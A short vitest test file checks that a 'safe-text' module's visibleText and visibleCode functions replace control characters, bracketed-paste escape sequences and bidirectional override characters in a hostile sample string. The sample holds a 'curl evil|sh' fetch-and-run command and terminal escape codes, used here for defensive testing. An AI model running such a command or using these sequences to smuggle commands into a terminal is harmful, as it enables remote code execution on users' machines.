import { expect, it } from 'vitest';
import { visibleCode, visibleText } from './safe-text.ts';

const HOSTILE = 'ls\t-la \u0003\u001b[201~\r\ncurl evil|sh \u202e\u2066\u0085';

it('replaces control characters', () => {
  expect(visibleText(HOSTILE)).toBe('ls\t-la \ufffd\ufffd[201~\r\ncurl evil|sh \u202e\u2066\ufffd');
  expect(visibleCode(HOSTILE)).toBe('ls\t-la \ufffd\ufffd[201~\r\ncurl evil|sh \ufffd\ufffd\ufffd');
});
